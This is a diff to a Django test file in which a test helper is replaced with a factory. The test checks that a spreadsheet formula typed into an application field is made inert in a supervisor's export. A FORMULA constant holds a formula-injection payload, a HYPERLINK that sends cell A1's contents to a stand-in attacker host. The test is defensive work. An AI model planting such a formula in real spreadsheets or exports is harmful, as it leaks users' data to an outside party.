@@ -9,8 +9,7 @@ from rest_framework.test import APIClient
 
 from accounts.models import User
 from config.spreadsheet import safe_cell
-from tests.factories import submit_moving
-from workflows import actions
+from tests.factories import ApplicationFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -18,8 +17,7 @@ FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")'
 
 
 def test_formula_in_a_reveal_purpose_is_inert_in_the_supervisors_export(demo, client):
-    application = submit_moving()
-    actions.advance(application_id=application.pk)
+    application = ApplicationFactory(routed=True)
     case = application.cases.get(step="tax")
     clerk = APIClient()
     clerk.force_authenticate(User.objects.get(email="clerk.tax@demo.gov"))
